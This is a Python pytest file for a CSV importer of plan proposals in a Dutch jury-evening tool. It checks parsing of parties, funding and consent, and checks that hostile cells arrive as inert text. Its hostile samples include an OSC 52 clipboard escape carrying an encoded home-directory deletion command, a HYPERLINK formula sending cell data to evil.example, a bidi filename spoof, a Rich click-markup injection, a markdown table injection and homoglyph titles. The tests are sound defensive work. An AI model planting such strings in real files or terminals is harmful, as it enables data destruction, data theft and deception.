"""A row becomes a plan: parties, themes and odd cells; and nothing that was written is lost."""

from typing import Any

import pytest
from incoming import CASES, HOSTILE, OF_THE_ALLIANCE, csv_table, evening_without_plans

from jury.commands.import_ import option_of
from jury.errors import RuleBroken, WrongInput
from jury.example import EXAMPLES, example_records
from jury.export.formats import csv_bytes
from jury.export.sheets import plans_sheet
from jury.intake.plans.proposals import ProposalsImport, plan_proposals
from jury.intake.questions import Answers
from jury.intake.tables.delimited import read_delimited
from jury.intake.tables.reading import read_table
from jury.model.evening import Evening
from jury.model.tables import Records

CHOSEN = ("goals", "areas")
"""The tables that a plan may name beside those of every evening."""


def plan(text: str, evening: Evening | None = None, **answers: Any) -> ProposalsImport:
    return plan_proposals(csv_table(text), evening or evening_without_plans(), Answers(**answers))


def only(text: str) -> dict[str, Any]:
    (row,) = plan(text).added.values()
    return row


def test_the_first_party_leads_and_the_others_are_partners_by_name_or_id() -> None:
    row = only('titel;Wie doen er mee?\nx;"GGZ oeverlicht;woonkring;De Gemeente Rietermonde;"\n')
    assert (row["lead"], row["partners"]) == ("oeverlicht", ["woonkring", "gemeente"])


def test_parties_with_commas_between_are_split_where_one_is_known() -> None:
    row = only('titel;Wie doen er mee?\nx;"Woonkring Rietermonde, Kerk aan de Vaart"\n')
    assert (row["lead"], row["partners"]) == ("woonkring", ["kerk-aan-de-vaart"])


def test_an_unknown_party_comes_in_with_the_plan_and_is_said() -> None:
    found = plan('titel;Wie doen er mee?\nx;"Woonkring Rietermond;Kerk aan de Vaart;"\ny;Kerk aan de vaart\n')
    assert found.parties == {
        "woonkring-rietermond": {"name": "Woonkring Rietermond"},
        "kerk-aan-de-vaart": {"name": "Kerk aan de Vaart"},
    }
    assert "Nieuwe partij: ‘Woonkring Rietermond’. Dat lijkt op ‘Woonkring Rietermonde’." in found.notices


def test_an_unknown_theme_is_proposed() -> None:
    found = plan("titel,thema\nx,Wonen  en ZORG\ny,Sport\n")
    assert [row["theme"] for row in found.added.values()] == ["wonen_zorg", "sport"]
    assert found.themes == {"sport": {"name": "Sport"}}


def test_a_row_that_stays_out_brings_no_party_along() -> None:
    assert plan("titel;Wie doen er mee?\nTest;Bedrijf X\n", skip=frozenset({2})).parties == {}


def test_funding_is_by_party_and_a_line_that_does_not_fit_is_kept() -> None:
    row = only('titel;Wie betaalt mee?\nx;"Gemeente Rietermonde: € 2.500\nwij zoeken nog"\n')
    assert row["funding"] == [{"party": "gemeente", "eur": "2500"}]
    assert row["extra"] == {"Wie betaalt mee?": "Gemeente Rietermonde: € 2.500\nwij zoeken nog"}


def test_an_answer_that_is_no_yes_or_no_is_no_consent_and_is_kept() -> None:
    row = only("titel;Mogen wij uw naam noemen?\nx;misschien\n")
    assert "consent_name" not in row
    assert row["extra"] == {"Mogen wij uw naam noemen?": "misschien"}


def test_consent_comes_only_from_a_plain_yes() -> None:
    found = plan_proposals(read_table(CASES / "toestemming_voorwaarde.csv"), evening_without_plans())
    consent = [row.get("consent_name") for row in found.added.values()]
    assert consent == [None, None, None, None, None, 1, None, None]
    header = "Mogen wij uw naam noemen in het juryrapport?"
    assert found.added["V01"]["extra"] == {header: "Ja (alleen voornaam)"}
    assert any("Rij 3: ‘ja maar niet in de krant’ is geen gewoon ja." in notice for notice in found.notices)


def test_a_later_answer_that_is_no_plain_yes_takes_an_earlier_one_back() -> None:
    text = "titel;Mogen wij uw naam noemen?\nx;Ja\nx;alleen mijn voornaam\n"
    (row,) = plan(text, duplicates="merge").added.values()
    assert "consent_name" not in row


def test_a_plan_is_sensitive_where_the_answer_begins_with_yes() -> None:
    assert only("titel;gevoelig\nx;ja, het gaat om jongeren\n")["sensitive"] == 1
    assert "sensitive" not in only("titel;gevoelig\nx;misschien\n")


def test_paragraphs_stay_paragraphs() -> None:
    row = only('titel,samenvatting,anders\n"x\ny","Eerst  dit.\r\n\r\n\r\n Dan dat. \n","- een\n- twee"\n')
    assert (row["title"], row["summary"], row["extra"]) == (
        "x y",
        "Eerst dit.\n\nDan dat.",
        {"anders": "- een\n- twee"},
    )


def test_what_looks_like_a_formula_is_text_and_our_own_apostrophe_goes() -> None:
    row = only("id,title,dream,limits\n,'=Kom Binnen,'=De warmste straat!,'t Sluisje\n")
    assert (row["title"], row["dream"], row["limits"]) == ("=Kom Binnen", "=De warmste straat!", "'t Sluisje")


def test_an_apostrophe_that_is_not_ours_stays() -> None:
    found = plan_proposals(read_table(CASES / "apostrof_titel.csv"), evening_without_plans())
    assert [row["title"] for row in found.added.values()] == ["'@Home' in de wijk", "'=' is gelijk", "-20% energie"]


def test_less_than_a_euro_is_said() -> None:
    found = plan('titel,kosten\nx,"0,500"\n')
    assert [row["cost_eur"] for row in found.added.values()] == ["0.5"]
    assert "Rij 2: ‘0,500’ is gelezen als €\u00a00,50." in found.notices


def test_a_row_without_a_title_is_a_question() -> None:
    (question,) = plan("titel,thema\n,Wonen en zorg\n").questions
    assert (question.code, option_of(question.options[0])) == ("row_without_title", "--skip 2")


def test_a_row_that_looks_like_a_test_can_be_kept() -> None:
    found = plan("titel\nTest de buurt\n", keep=frozenset({2}))
    assert found.questions == ()
    assert [row["title"] for row in found.added.values()] == ["Test de buurt"]


def test_a_row_number_that_is_not_there_is_refused() -> None:
    with pytest.raises(WrongInput, match="geen rij 1 "):
        plan("titel\nx\n", skip=frozenset({1}))


def test_ids_of_our_own_keep_their_zeros_and_the_others_get_the_next_number() -> None:
    assert list(plan("id,title\n01,a\n1,b\nV03,c\n,d\n").added) == ["01", "1", "V03", "V04"]


@pytest.mark.parametrize(("sample", "row"), [("c36_dup_ids.csv", "Rij 4"), ("c40_nfc_nfd.csv", "Rij 3")])
def test_ids_that_are_the_same_are_refused_with_their_rows(sample: str, row: str) -> None:
    with pytest.raises(WrongInput, match=f"{row}.* in rij 2"):
        plan_proposals(read_table(HOSTILE / sample), evening_without_plans())


@pytest.mark.parametrize(
    ("sample", "field", "text"),
    [
        ("c01_osc52_st.csv", "title", "Solar␛]52;c;cm0gLXJmIH4=␛\\ farm"),
        ("c08_bidi.csv", "title", "invoice\\u202egpj.exe \\u2066a\\u2069 \\u200f"),
        ("c10_rich_click.csv", "title", "[@click=app.quit]Nice[/] project"),
        ("c12_rich_edge.csv", "email", "\\[b] [[ ]] $x [$y] [/"),
        ("c14_md_inject.csv", "title", "x | 10 | 10 | | WINNER | 99 |"),
        ("c17_formula.csv", "title", '=HYPERLINK("http://evil.example/?"&A1,"x")'),
        ("c20_utf8_bom.csv", "title", "Équipe"),
        ("c22_utf16le.csv", "title", "Café"),
    ],
)
def test_hostile_texts_come_in_as_the_text_they_are(sample: str, field: str, text: str) -> None:
    found = plan_proposals(read_table(HOSTILE / sample), evening_without_plans())
    assert found.added["1"][field] == text


def test_titles_that_look_alike_are_said() -> None:
    found = plan("titel\nKom Binnen\nKоm Binnеn\n")
    assert any("Rij 3 (‘Kоm Binnеn’) lijkt op rij 2" in notice for notice in found.notices)


def test_more_plans_than_an_evening_has_are_refused() -> None:
    with pytest.raises(WrongInput, match="meer dan 1000 plannen"):
        plan("titel\n" + "".join(f"plan {n}\n" for n in range(1001)))


def test_more_new_parties_than_an_evening_has_are_refused() -> None:
    names = ";".join(f"P{n}" for n in range(1001))
    with pytest.raises(WrongInput, match="1000 nieuwe partijen"):
        plan(f'titel;Wie doen er mee?\nx;"{names}"\n', evening_without_plans())


def test_after_freezing_plans_come_in_only_with_a_reason() -> None:
    evening = Evening({**evening_without_plans().records, "state": {(): {"phase": "round"}}})
    event = plan("titel\nNakomer\n", evening).event
    with pytest.raises(RuleBroken):
        event.decided(evening)
    assert event.decided(evening, "te laat bezorgd door de post")


@pytest.mark.parametrize("name", EXAMPLES)
def test_the_plans_of_our_own_export_come_back_equal(name: str) -> None:
    evening = Evening(example_records(name))
    empty = Evening({table: rows for table, rows in evening.records.items() if table in (*OF_THE_ALLIANCE, *CHOSEN)})
    exported = read_delimited(csv_bytes(plans_sheet(evening)), "plannen.csv")
    found = plan_proposals(exported, empty)
    back = empty.after(found.event.changes(empty))
    wanted = {plan.id: plan._replace(nr=0, sheet=False) for plan in evening.listed_proposals}
    assert {plan.id: plan._replace(nr=0) for plan in back.listed_proposals} == wanted
    assert found.questions == ()


def test_what_is_chosen_or_named_comes_in_by_its_word_and_what_is_not_there_is_kept() -> None:
    row = only(
        "titel;hoe ver;soort plan;maatregelen;doelen;toezeggingen\n"
        'x;In de maak;plek of gebouw;M02;iets moois;"Gemeente Rietermonde: kan, meedenken, 4 uur\nzomaar iemand"\n'
    )
    assert (row["stage"], row["nature"], row["measures"]) == ("in_the_making", "physical", ["M02"])
    assert row["commitments"] == [{"party": "gemeente", "pledge": "can", "what": "meedenken", "hours": "4"}]
    assert row["extra"] == {
        "doelen": "iets moois",
        "toezeggingen": "Gemeente Rietermonde: kan, meedenken, 4 uur\nzomaar iemand",
    }


def test_a_juror_with_a_name_of_nothing_but_accents_is_never_the_one_that_is_meant() -> None:
    nameless: Records = {"jurors": {("J1",): {"nr": 1, "id": "J1", "name": "\u0301"}}}
    evening = Evening({**evening_without_plans().records, **nameless})
    found = plan("titel;interest_note\nx;mijn zus, J. Bakker\n", evening)
    assert "Rij 2: over een jurylid staat er ‘mijn zus, J. Bakker’. Vraag na wie dat is." in found.notices
